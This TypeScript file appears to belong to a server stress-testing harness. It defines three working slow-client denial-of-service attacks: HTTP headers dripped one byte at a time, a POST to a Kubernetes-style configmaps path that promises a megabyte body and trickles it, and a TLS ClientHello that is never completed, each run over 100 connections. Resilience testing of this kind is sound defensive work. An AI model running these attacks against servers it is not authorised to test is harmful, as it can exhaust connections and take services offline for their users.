/** Clients that take for ever: connections that say almost nothing hold a place each. */

import type { Socket } from "node:net";
import { type Attack, crowd, pause, randomBytes, type Siege } from "../attack.ts";
import { answerOf, openTcp, openTls, request, unconnected } from "../wire.ts";

const connections = 100;
/** Between two bytes. */
const dripMs = 250;

/** Byte after byte, until the server has enough of it. */
async function drip(siege: Siege, open: () => Promise<Socket>, start: Buffer): Promise<void> {
  siege.tally.asked();
  try {
    const socket = await open();
    socket.write(start);
    const ending = answerOf(socket, 600_000);
    while (!siege.over() && !socket.destroyed) {
      socket.write("x");
      await pause(dripMs);
    }
    if (!socket.destroyed) siege.tally.answered("borne");
    else siege.tally.answered(await ending);
    socket.destroy();
  } catch (error) {
    unconnected(siege, error);
  }
}

const plain = (siege: Siege) => () =>
  openTls(siege, { protocol: "http/1.1", withCertificate: false });

export const slow: readonly Attack[] = [
  {
    name: "headers, a byte at a time",
    run: (siege) =>
      crowd(siege, connections, () =>
        drip(siege, plain(siege), Buffer.from("GET /api HTTP/1.1\r\nhost: siege\r\nx: ")),
      ),
  },
  {
    name: "bodies, a byte at a time",
    run: (siege) => {
      const start = request("POST", "/api/v1/namespaces/default/configmaps", {
        "content-type": "application/json",
        "content-length": "1000000",
      });
      return crowd(siege, connections, () => drip(siege, plain(siege), start));
    },
  },
  {
    name: "TLS that is never finished",
    run: (siege) => {
      // The head of a ClientHello that promises more than comes.
      const hello = Buffer.concat([Buffer.from("16030102000100", "hex"), randomBytes(siege, 40)]);
      return crowd(siege, connections, () => drip(siege, () => openTcp(siege), hello));
    },
  },
];
